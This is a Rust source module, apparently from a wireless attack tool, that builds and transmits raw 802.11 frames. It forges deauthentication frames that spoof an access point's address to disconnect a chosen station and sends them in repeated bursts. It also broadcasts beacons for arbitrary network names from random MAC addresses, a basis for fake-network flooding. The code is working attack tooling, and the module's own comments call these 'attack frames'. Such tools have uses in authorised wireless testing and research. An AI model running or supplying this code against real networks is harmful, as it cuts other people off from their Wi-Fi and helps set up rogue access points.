//! Raw 802.11 frame construction and injection

use bytes::{BufMut, BytesMut};
use rand::Rng;
use std::sync::Arc;
use std::time::Duration;

use crate::frame::MacAddress;
use crate::phy::{RadioDriver, RadioError};
use crate::MAX_SSID_LEN;

pub const DEAUTH_FRAME_LEN: usize = 26;

/// Transmissions per deauthentication burst
pub const DEAUTH_BURST: usize = 5;

/// Gap between burst transmissions
pub const DEAUTH_GAP: Duration = Duration::from_millis(1);

/// Beacon interval in time units (1 TU = 1024 us)
pub const BEACON_INTERVAL_TU: u16 = 100;

/// ESS capability bit
pub const CAPABILITY_ESS: u16 = 0x0001;

/// 1, 2, 5.5, 11 (basic), 18, 24, 36, 54 Mbps
pub const SUPPORTED_RATES: [u8; 8] = [0x82, 0x84, 0x8B, 0x96, 0x24, 0x30, 0x48, 0x6C];

const FC_DEAUTH: [u8; 2] = [0xC0, 0x00];
const FC_BEACON: [u8; 2] = [0x80, 0x00];

const IE_SSID: u8 = 0x00;
const IE_SUPPORTED_RATES: u8 = 0x01;
const IE_DS_PARAMS: u8 = 0x03;

/// Build a deauthentication frame sent from `ap` to `station`
pub fn build_deauth(ap: &MacAddress, station: &MacAddress, reason: u16) -> [u8; DEAUTH_FRAME_LEN] {
    let mut frame = [0u8; DEAUTH_FRAME_LEN];
    let mut buf = &mut frame[..];
    buf.put_slice(&FC_DEAUTH);
    buf.put_u16_le(0); // duration
    buf.put_slice(station.as_bytes());
    buf.put_slice(ap.as_bytes());
    buf.put_slice(ap.as_bytes()); // BSSID
    buf.put_u16_le(0); // sequence control
    buf.put_u16_le(reason);
    frame
}

/// Build a beacon advertising `ssid` on `channel`. SSIDs longer than 32
/// bytes are clamped.
pub fn build_beacon(ssid: &[u8], channel: u8, source: &MacAddress, uptime_us: u64) -> BytesMut {
    let ssid = &ssid[..ssid.len().min(MAX_SSID_LEN)];
    let mut buf = BytesMut::with_capacity(36 + 2 + ssid.len() + 2 + SUPPORTED_RATES.len() + 3);

    // MAC header
    buf.put_slice(&FC_BEACON);
    buf.put_u16_le(0);
    buf.put_slice(MacAddress::BROADCAST.as_bytes());
    buf.put_slice(source.as_bytes());
    buf.put_slice(source.as_bytes());
    buf.put_u16_le(0);

    // Fixed parameters
    buf.put_u64_le(uptime_us);
    buf.put_u16_le(BEACON_INTERVAL_TU);
    buf.put_u16_le(CAPABILITY_ESS);

    // Tagged parameters
    buf.put_u8(IE_SSID);
    buf.put_u8(ssid.len() as u8);
    buf.put_slice(ssid);

    buf.put_u8(IE_SUPPORTED_RATES);
    buf.put_u8(SUPPORTED_RATES.len() as u8);
    buf.put_slice(&SUPPORTED_RATES);

    buf.put_u8(IE_DS_PARAMS);
    buf.put_u8(1);
    buf.put_u8(channel);

    buf
}

/// Random locally administered unicast address
pub fn random_local_mac() -> MacAddress {
    let mut rng = rand::thread_rng();
    let mut bytes = [0u8; 6];
    bytes[0] = 0x02;
    rng.fill(&mut bytes[1..]);
    MacAddress(bytes)
}

/// Builds and transmits attack frames through the radio
#[derive(Clone)]
pub struct FrameInjector {
    radio: Arc<dyn RadioDriver>,
    burst: usize,
    gap: Duration,
}

impl std::fmt::Debug for FrameInjector {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("FrameInjector")
            .field("burst", &self.burst)
            .field("gap", &self.gap)
            .finish()
    }
}

impl FrameInjector {
    pub fn new(radio: Arc<dyn RadioDriver>) -> Self {
        Self {
            radio,
            burst: DEAUTH_BURST,
            gap: DEAUTH_GAP,
        }
    }

    pub fn with_burst(mut self, burst: usize, gap: Duration) -> Self {
        self.burst = burst.max(1);
        self.gap = gap;
        self
    }

    /// Transmit a raw frame once
    pub fn inject(&self, frame: &[u8]) -> Result<(), RadioError> {
        self.radio.transmit(frame)
    }

    /// Send a deauthentication burst. Every attempt is made; the burst
    /// succeeds only if all of them do.
    pub fn send_deauth(
        &self,
        ap: &MacAddress,
        station: &MacAddress,
        reason: u16,
    ) -> Result<(), RadioError> {
        let frame = build_deauth(ap, station, reason);
        let mut last_error = None;

        for attempt in 0..self.burst {
            if let Err(e) = self.inject(&frame) {
                log::debug!("Deauth attempt {} failed: {}", attempt + 1, e);
                last_error = Some(e);
            }
            if !self.gap.is_zero() {
                std::thread::sleep(self.gap);
            }
        }

        match last_error {
            Some(e) => Err(e),
            None => Ok(()),
        }
    }

    /// Send one beacon for `ssid` from a fresh random BSSID
    pub fn send_beacon(&self, ssid: &str, channel: u8) -> Result<(), RadioError> {
        let uptime_us = self.radio.uptime().as_micros() as u64;
        let frame = build_beacon(ssid.as_bytes(), channel, &random_local_mac(), uptime_us);
        self.inject(&frame)
    }
}
